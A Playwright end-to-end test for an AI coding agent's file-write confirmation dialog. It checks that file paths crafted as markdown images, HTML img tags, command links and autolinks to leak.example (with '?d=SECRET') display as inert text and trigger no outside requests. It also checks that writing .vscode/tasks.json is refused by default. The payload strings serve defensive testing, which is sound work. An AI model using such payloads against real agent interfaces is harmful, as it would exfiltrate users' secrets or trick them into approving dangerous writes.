import assert from 'node:assert/strict';
import { existsSync } from 'node:fs';
import path from 'node:path';
import { before, describe, it } from 'mocha';
import type { Locator } from 'playwright-core';
import { toolIds } from '../../src/ids.ts';
import type { Step } from '../fixtures/scripted-model/scriptedModel.d.ts';
import {
	ask,
	openChat,
	outsideRequests,
	pictures,
	picturesOfFailures,
	scriptedWindow,
	type ProjectWindow,
	screenshot,
	waitForModel,
	widenChat,
} from './driver.ts';

/** Paths that are markdown, HTML or addresses to whom takes them for such. */
const newFiles = {
	'an image': 'src/![x](https://leak.example/create.png?d=SECRET)',
	'a tag': 'src/<img src="https://leak.example/tag.png">.ts',
	'a command': 'src/[Show the details](command:workbench.action.quickOpen?%22x%22).md',
	addresses: 'src/$(warning) www.leak.example <https://leak.example/auto> a@leak.example.ts',
};
const existing = 'src/![x](https:/leak.example/edit.png?d=SECRET)';
const text = [
	'```',
	'![x](https://leak.example/text.png)',
	'<img src="https://leak.example/html.png">',
	'[x](command:workbench.action.quickOpen)',
].join('\n');
const dangerous = '.vscode/tasks.json';

const calls: readonly Step[] = [
	...Object.values(newFiles).map((file) => ({
		tool: toolIds.createFile,
		input: { path: file, text },
	})),
	{ tool: toolIds.editFile, input: { path: existing, oldText: 'one', newText: text } },
	{ tool: toolIds.createFile, input: { path: dangerous, text: '{}' } },
];
const script: readonly (readonly Step[])[] = calls.flatMap((call) => [[call], [{ text: 'Done.' }]]);

describe('what the user confirms', function () {
	let window: ProjectWindow;
	let outside: readonly string[];
	let confirmation: Locator;

	before(async () => {
		window = await scriptedWindow({ width: 1440, height: 900 }, script);
		window.write(existing, 'one');
		const { page } = window;
		await openChat(page);
		await widenChat(page, 560);
		await waitForModel(page);
		confirmation = page.getByRole('group', { name: 'Tool confirmation carousel' });
		outside = outsideRequests(page);
	});

	picturesOfFailures(() => window);

	for (const [what, file] of Object.entries({ ...newFiles, 'an image to edit': existing })) {
		it(`is a text, where a path could be ${what}`, async () => {
			const { page } = window;
			const answering = ask(page, '@backend-engineer Go on.');
			// A failure of the question is reported where it is awaited.
			answering.catch(() => undefined);
			const title = file === existing ? 'Edit this file?' : 'Create this file?';
			await confirmation.getByText(title).first().waitFor();
			await confirmation.locator('.view-line', { hasText: 'html.png' }).first().waitFor();
			await screenshot(window, `confirmation-${what}`);
			const shown = (await confirmation.innerText())
				.replaceAll('\u2060', '')
				.replaceAll('\u00A0', ' ');
			assert.ok(shown.includes(path.posix.normalize(file)), shown);
			assert.equal(
				await confirmation.locator('img, a[href]:not([href=""]), a[data-href]').count(),
				0,
			);
			await confirmation.getByRole('button', { name: 'Skip' }).click();
			const answer = await answering;
			assert.match(answer.text, /Done\./);
			assert.deepEqual(outside, []);
		});
	}

	it('is not agreed to by pressing Enter, where a file decides what runs', async () => {
		const { page } = window;
		const answering = ask(page, '@backend-engineer Go on.');
		answering.catch(() => undefined);
		await confirmation.getByText('Create this file?').first().waitFor();
		await confirmation.getByText('Allow in this Session').click();
		const dialog = page.locator('.monaco-dialog-box');
		await dialog.getByText(`Let the agent write ${dangerous}?`).waitFor();
		await pictures(window, 'dangerousFile');
		assert.equal(await dialog.locator('.monaco-button:focus').innerText(), 'Do Not Write');
		await page.keyboard.press('Enter');
		const answer = await answering;
		assert.match(answer.text, /Done\./);
		assert.equal(existsSync(path.join(window.folder, dangerous)), false);
	});
});
